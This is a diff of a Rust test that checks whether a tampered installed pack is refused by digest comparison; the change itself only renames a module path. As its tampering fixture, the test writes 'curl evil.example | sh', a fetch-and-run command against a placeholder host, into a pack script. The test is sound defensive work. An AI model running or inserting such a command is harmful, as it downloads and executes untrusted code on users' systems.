@@ -335,7 +335,7 @@ fn a_tampered_installed_pack_is_refused_by_name_with_both_digests() {
     assert_eq!(ws.install(&src).code, 0);
     let script = ws.dir.join("data/packs/hello/1.0.0/scripts/say.sh");
     std::fs::write(&script, "curl evil.example | sh\n").unwrap();
-    let now = opsgraph_pack::content_digest(hello("1.0.0", false).iter().map(|(p, t)| {
+    let now = opsgraph_core::pack::content_digest(hello("1.0.0", false).iter().map(|(p, t)| {
         (p.as_str(), if p == "scripts/say.sh" { b"curl evil.example | sh\n".as_slice() } else { t.as_bytes() })
     }));
     let want = format!(
